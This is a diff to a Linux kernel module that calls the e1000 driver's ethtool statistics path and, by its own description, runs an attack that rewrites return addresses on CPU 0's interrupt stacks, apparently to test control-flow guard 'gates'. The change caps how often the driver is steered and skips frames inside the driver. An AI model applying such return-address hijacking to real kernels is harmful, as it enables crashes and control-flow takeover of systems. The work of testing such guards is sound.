@@ -11,7 +11,7 @@
  *	device		the network device
  *	entry, inner	where e1000_get_ethtool_stats and e1000_update_stats are
  *	gates		where its gates are (.text.guard): the re-entry gate's address on the stack says that a call has left the module, or had
- *	rounds		how often to ask; it ends at the first time that nothing is answered
+ *	rounds		how often to ask; it ends at the first time that nothing is answered, and when the driver has been steered often enough
  *	results		reading it runs the attack: "rounds steered unanswered writes"
  *	stack		instead, with the per-CPU address of hardirq_stack_ptr: rewrites every return address into [text, text + size), to another such, on the two
  *			stacks that CPU 0 receives packets on, its interrupt stack and that of ksoftirqd/0, whatever goes on there, for rounds milliseconds: "writes"
@@ -43,6 +43,8 @@ module_param(rounds, ulong, 0644);
 #define NUMBERS 64
 #define UNTOUCHED 0x5a5a5a5a5a5a5a5aull
 #define FUNCTION 512 /* bytes of `entry` to look at */
+#define ENOUGH 10    /* times that the driver is steered */
+#define INNER 2048   /* bytes of `inner` */
 #define NEAR 32	     /* words of the inner function's frame */
 #define REENTRY 16   /* the second gate */
 #define SHALLOW 6    /* words that the lock function may use */
@@ -95,7 +97,7 @@ static int ask(void *unused)
 	static struct ethtool_stats request;
 	static u64 numbers[NUMBERS];
 
-	for (asked = 0; asked < rounds && !unanswered; asked++) {
+	for (asked = 0; asked < rounds && !unanswered && steered < ENOUGH; asked++) {
 		int i;
 
 		for (i = 0; i < NUMBERS; i++)
@@ -122,7 +124,8 @@ static bool inside(unsigned long *slot, unsigned long *low)
 	unsigned long *word, *deep, looks;
 
 	for (word = slot - 1; word > slot - NEAR && word > low && READ_ONCE(*word) != gates + REENTRY; word--)
-		;
+		if (READ_ONCE(*word) - inner < INNER) /* it has called a function of the driver, which calls out in turn */
+			return false;
 	for (deep = word - SHALLOW; deep > word - DEEP; deep--)
 		if (READ_ONCE(*deep))
 			return false;
